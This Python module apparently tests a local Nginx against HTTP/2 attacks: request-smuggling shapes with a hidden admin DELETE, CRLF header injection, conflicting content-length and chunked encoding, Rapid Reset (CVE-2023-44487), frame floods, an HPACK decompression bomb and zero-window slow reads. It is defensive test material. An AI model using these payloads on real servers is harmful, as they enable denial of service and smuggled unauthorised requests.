"""HTTP/2: requests that could become two in HTTP/1.1, streams that are reset, and frames that cost the server something."""

import os
import signal
import socket
import ssl
import subprocess
import time
from collections.abc import Iterable
from contextlib import suppress
from functools import cache

from frame import Stage, Tally, attack
from stack import Stack, eventually, free_port

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
SEARCH = b"/api/v1/products?search=a+e+i+o+n+r+t+s+l+zqzq"
STREAMS_AT_ONCE = 1000  # requests that are sent before the first response is read

Field = tuple[bytes, bytes]


@cache
def port_of(stack: Stack) -> int:
    """Adds an address with HTTP/2 to the stack's Nginx. Returns: its port."""
    folder, port = stack.folder / "nginx", free_port()
    certificate, key, configuration = folder / "http2.pem", folder / "http2-key.pem", folder / "nginx.conf"
    command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj", "/CN=attacks"]
    subprocess.run([*command, "-keyout", key, "-out", certificate], check=True, capture_output=True)
    owner = configuration.stat()
    for file in (certificate, key):
        os.chown(file, owner.st_uid, owner.st_gid)
    text = configuration.read_text()
    added = f"listen 127.0.0.1:{port} ssl http2;\n    ssl_certificate {certificate};\n    ssl_certificate_key {key};\n\n    "
    place = "client_max_body_size 1000000;\n"
    assert text.count(place) == 1
    configuration.write_text(text.replace(place, added + place))
    os.kill(stack.pid_of("nginx"), signal.SIGHUP)

    def listens() -> bool:
        with socket.socket() as probe:
            return probe.connect_ex(("127.0.0.1", port)) == 0

    eventually(listens, "Nginx listens for HTTP/2")
    return port


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def text(value: bytes) -> bytes:
    """Returns: a text of HPACK with its length, without Huffman's code."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    rest, length = len(value) - 127, [127]
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    return bytes((*length, rest)) + value


def fields(*all_fields: Field) -> bytes:
    return b"".join(b"\0" + text(name) + text(value) for name, value in all_fields)


def pseudo(path: bytes = b"/api/v1/shops/1", method: bytes = b"GET") -> tuple[Field, ...]:
    return ((b":method", method), (b":scheme", b"https"), (b":authority", b"s"), (b":path", path))


def request(stream: int, *all_fields: Field, body: bytes | None = None) -> bytes:
    head = frame(HEADERS, END_HEADERS | (END_STREAM if body is None else 0), stream, fields(*all_fields))
    return head if body is None else head + frame(DATA, END_STREAM, stream, body)


class Connection:
    """A connection with HTTP/2 from the attack's address."""

    def __init__(self, stage: Stage, settings: bytes = b"") -> None:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(stage.connect(("127.0.0.1", port_of(stage.stack)), 5))
        self.received = b""
        self.statuses: list[int] = []  # of the responses until now
        self.ended: set[int] = set()  # streams
        self.closed = False
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW_UPDATE, 0, 0, b"\x3f\0\0\0"))

    def send(self, sent: bytes) -> None:
        try:
            self.socket.sendall(sent)
        except OSError:
            self.closed = True

    def read(self, seconds: float, enough: int = 1) -> None:
        """Reads until `enough` streams have ended, the connection is closed, or the time is over."""
        deadline = time.monotonic() + seconds
        while not self.closed and len(self.ended) < enough and (left := deadline - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                piece = self.socket.recv(65536)
            except TimeoutError:
                return
            except OSError:
                piece = b""
            self.closed = not piece
            self.received += piece
            self.take_frames()

    def take_frames(self) -> None:
        while len(self.received) >= 9 and len(self.received) >= (end := 9 + int.from_bytes(self.received[:3], "big")):
            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big")
            payload, self.received = self.received[9:end], self.received[end:]
            if kind == HEADERS:
                self.statuses.append(status_in(payload))
            if kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM):
                self.ended.add(stream)

    def close(self) -> None:
        self.socket.close()


def status_in(block: bytes) -> int:
    """Returns: the status at the beginning of a block of fields, as Nginx writes it."""
    if block[0] & 0xE0 == 0x20:  # a size of the table
        block = block[1:]
    return {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}.get(block[0]) or int(block[2:5])


def shapes(token: bytes) -> Iterable[bytes]:
    """Yields: requests whose form HTTP/2 forbids, or that would be two requests if their texts were copied into HTTP/1.1."""
    hidden = b"DELETE /api/v1/shops/1?cascade=true HTTP/1.1\r\nHost: s\r\nAuthorization: Bearer " + token + b"\r\n\r\n"
    rest = b" HTTP/1.1\r\nHost: s\r\n\r\n" + hidden
    post = (*pseudo(b"/api/v1/stock-readings", b"POST"), (b"authorization", b"Bearer " + token), (b"content-type", b"application/json"))
    yield request(1, *pseudo(b"/" + rest))
    yield request(1, *pseudo(b"/api/v1/shops/1", b"GET / HTTP/1.1\r\n\r\n" + hidden))
    yield request(1, *pseudo(), (b"x", b"1\r\n\r\n" + hidden))
    yield request(1, *pseudo(), (b"x\r\n\r\n" + hidden, b"1"))
    yield request(1, *pseudo(), (b"x: 1\r\ny", b"1"))
    yield request(1, *pseudo(), (b"x", b"1\nAuthorization: Bearer " + token))
    yield request(1, *pseudo(), (b"x", b"\0"))
    yield request(1, *pseudo(), (b"Upper", b"1"))
    yield request(1, *pseudo(), (b"", b"1"))
    yield request(1, *pseudo(), (b":path", b"/api/v1/tokens"))
    yield request(1, *pseudo(), (b":other", b"1"))
    yield request(1, *pseudo()[1:])
    yield request(1, *pseudo()[:3])
    yield request(1, (b"x", b"1"), *pseudo())
    yield request(1, *pseudo(b"*"))
    yield request(1, *pseudo(b"api/v1/shops/1"))
    yield request(1, *pseudo(b"https://other/api/v1/shops/1"))
    yield request(1, *pseudo(b"127.0.0.1:22", b"CONNECT"))
    yield request(1, *pseudo(), (b"host", b"s"), (b"host", b"other"))
    yield request(1, *post, (b"content-length", b"4"), body=b"0000" + hidden)
    yield request(1, *post, (b"content-length", b"0"), body=hidden)
    yield request(1, *post, (b"content-length", b"1000"), body=hidden)
    yield request(1, *post, (b"content-length", b"0"), (b"content-length", b"%d" % len(hidden)), body=hidden)
    yield request(1, *post, (b"content-length", b"+4"), body=hidden)
    yield request(1, *post, (b"transfer-encoding", b"chunked"), body=b"0\r\n\r\n" + hidden)
    yield request(1, *post, (b"transfer-encoding", b"chunked"), (b"content-length", b"5"), body=b"0\r\n\r\n" + hidden)
    yield request(1, *pseudo(), (b"connection", b"transfer-encoding"), (b"transfer-encoding", b"chunked"), body=b"0\r\n\r\n" + hidden)
    yield request(1, *pseudo()) + frame(DATA, END_STREAM, 1, hidden)
    yield request(2, *pseudo())
    yield request(3, *pseudo()) + request(1, *pseudo())
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\xff\xff\xff\xff\x7f")
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xbf" * 100)
    yield frame(HEADERS, END_STREAM, 1, fields(*pseudo())) + request(3, *pseudo())
    yield frame(CONTINUATION, END_HEADERS, 1, fields(*pseudo()))
    yield frame(DATA, END_STREAM, 1, hidden)
    yield hidden


@attack(refuses=True)
def http2_requests_that_would_be_two(stage: Stage) -> Tally:
    """None is taken for two, none is 500 or 502, and Nginx continues."""
    tally, lasts = Tally(), stage.deadline()
    while True:
        for shape in shapes(stage.token("admin").encode()):
            client = Connection(stage)
            client.send(shape)
            client.read(0.5)
            client.close()
            tally.attempts += 1
            tally.refused += any(400 <= status < 500 for status in client.statuses) or not client.statuses
            tally.admit(f"{shape[:90]!r} got {client.statuses}", int(bool({204, 500, 502} & {*client.statuses})))
        present, _ = stage.stack.request("/api/v1/shops/1?")
        tally.admit("the shop was deleted", int(present != 200))
        if not lasts():
            return tally


@attack(refuses=True)
def http2_streams_that_are_reset(stage: Stage) -> Tally:
    """Many searches on a connection, each of them reset at once (CVE-2023-44487)."""
    tally, lasts = Tally(), stage.deadline()
    streams = range(1, 2 * STREAMS_AT_ONCE, 2)
    sent = b"".join(request(one, *pseudo(SEARCH)) + frame(RST_STREAM, 0, one, b"\0\0\0\x08") for one in streams)
    while lasts():
        client = Connection(stage)
        client.send(sent)
        client.read(1, enough=len(streams))
        client.close()
        tally.attempts += len(streams)
        tally.refused += client.closed or 429 in client.statuses
    return tally


@attack(refuses=True)
def http2_streams_without_a_pause(stage: Stage) -> Tally:
    """Many searches on a connection at once, whose client waits for all of them."""
    tally, lasts = Tally(), stage.deadline()
    streams = range(1, 2 * STREAMS_AT_ONCE, 2)
    sent = b"".join(request(one, *pseudo(SEARCH)) for one in streams)
    while lasts():
        client = Connection(stage)
        client.send(sent)
        client.read(10, enough=len(streams))
        client.close()
        tally.attempts += len(streams)
        tally.refused += client.statuses.count(429) + (len(streams) - len(client.statuses))
    return tally


def floods() -> Iterable[tuple[str, bytes]]:
    """Yields: the name of a flood, and 1 MB or more of it."""
    large = fields(*pseudo(), (b"x", b"a" * 4000))
    yield "settings", frame(SETTINGS, 0, 0) * 120_000
    yield "pings", frame(PING, 0, 0, bytes(8)) * 60_000
    yield "priorities", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 80_000
    yield "windows", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 80_000
    yield "resets of streams that never were", frame(RST_STREAM, 0, 1, bytes(4)) * 80_000
    yield "empty pieces of a head", frame(HEADERS, END_STREAM, 1, large) + frame(CONTINUATION, 0, 1) * 120_000
    yield "a head without an end", frame(HEADERS, END_STREAM, 1, large) + frame(CONTINUATION, 0, 1, fields((b"x", b"a" * 4000))) * 300
    yield "empty pieces of a body", frame(HEADERS, END_HEADERS, 1, fields(*pseudo())) + frame(DATA, 0, 1) * 120_000
    # 0x40: the field gets into the table; 0xbe is the newest entry there.
    bomb = fields(*pseudo()) + b"\x40" + text(b"x") + text(b"a" * 3900) + b"\xbe" * 12_000
    yield "a short head that is long", frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb) * 80


@attack(refuses=True)
def http2_floods_of_frames(stage: Stage) -> Tally:
    """Frames that are cheap to send. Nginx ends such a connection, or reads them at no cost for others."""
    tally, lasts = Tally(), stage.deadline()
    while True:
        for name, flood in floods():
            client = Connection(stage)
            client.send(flood)
            client.read(1, enough=1)
            client.close()
            tally.attempts += 1
            tally.refused += client.closed or any(400 <= status < 500 for status in client.statuses)
            tally.admit(f"{name}: {client.statuses}", int(500 in client.statuses))
        if not lasts():
            return tally


@attack()
def http2_readers_that_open_no_window(stage: Stage) -> Tally:
    """Long lists on many streams, whose client never permits a byte of a body."""
    tally, lasts = Tally(), stage.deadline()
    clients = []
    for _ in range(20):
        with suppress(OSError):
            client = Connection(stage, settings=b"\0\x04\0\0\0\0")  # the window of each stream: 0
            client.send(b"".join(request(one, *pseudo(b"/api/v1/products?limit=1000")) for one in range(1, 200, 2)))
            clients.append(client)
            tally.attempts += 100
    while lasts():
        time.sleep(0.2)
    for client in clients:
        client.close()
    return tally
